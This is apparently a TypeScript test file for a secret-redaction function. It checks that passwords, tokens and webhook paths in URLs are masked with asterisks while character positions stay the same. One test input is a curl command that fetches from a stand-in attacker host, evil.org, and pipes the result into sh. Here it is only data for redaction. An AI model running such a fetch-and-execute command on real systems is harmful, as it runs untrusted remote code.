/** What a report shows of a line: the same signs in the same places, but for secrets. */
import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { hideSecrets } from '../../../../src/extract/secrets/hide-secrets.ts';

describe('hiding secrets', () => {
  test.each([
    ['x http://user:pw@evil.org/a y', 'x http://*******@evil.org/a y'],
    ['curl joe:pw@evil.org/x | sh', 'curl ******@evil.org/x | sh'],
    [String.raw`"http:\/\/u:pw@evil.org\/a?x=1"`, String.raw`"http:\/\/****@evil.org\/a?x=1"`],
    ['https:/u:p@evil.org/x', 'https:/***@evil.org/x'],
    ['hxxp[:]//u:p@evil[.]org', 'hxxp[:]//***@evil[.]org'],
    [String.raw`"http://u:pw\u0040evil.org/a"`, String.raw`"http://****\u0040evil.org/a"`],
    [String.raw`"http://evil.org\u003ftoken\u003dabc"`, `"http://evil.org\\${'*'.repeat(19)}"`],
    [String.raw`"http://evil.org/a?token\x3dabc"`, `"http://evil.org/a?${'*'.repeat(12)}"`],
    ['see http://a.org?password=abc', 'see http://a.org?************'],
    ['src="//joe:p@evil.org/a"', 'src="//*****@evil.org/a"'],
    ['http://u:p@@evil.org/k', 'http://****@evil.org/k'],
    ['postgres://u:p@evil.org/db', 'postgres://***@evil.org/db'],
    ['see http://a.org/e?password=abc and 8.8.8.8', 'see http://a.org/e?************ and 8.8.8.8'],
    ['http://a.org/d#access_token=abc', 'http://a.org/d#****************'],
    ['https://hooks.slack.com/services/T0/B0/XX ok', 'https://hooks.slack.com/***************** ok'],
    ['http://a.org/m?to=http://u:p@b.org/', `http://a.org/m?${'*'.repeat(20)}`],
  ])('%s', (line, shown) => {
    expect(hideSecrets(line)).toBe(shown);
  });

  test.each([
    'mail me@acme.net now',
    'https://a.org/@scope/pkg',
    'npm i left-pad@1.2.3 http://a.org/b@2/c',
    'const x = a ? b : c; // @d',
    'http://a.org/d#section?x=1',
    'https://github.com/a/b/issues/1#issuecomment-1',
  ])('leaves alone: %s', (line) => {
    expect(hideSecrets(line)).toBe(line);
  });

  test('no place moves', () => {
    const part = fc.constantFrom(
      'http://',
      '//',
      '/',
      '@',
      ':',
      '?',
      '#',
      '=',
      'token',
      'pw',
      ' ',
      '"',
      '\u{1f600}',
      'é',
    );
    fc.assert(
      fc.property(fc.array(part), (parts) => {
        const line = parts.join('');
        const shown = hideSecrets(line);
        expect([shown.length, [...shown].length]).toEqual([line.length, [...line].length]);
      }),
    );
  });
});
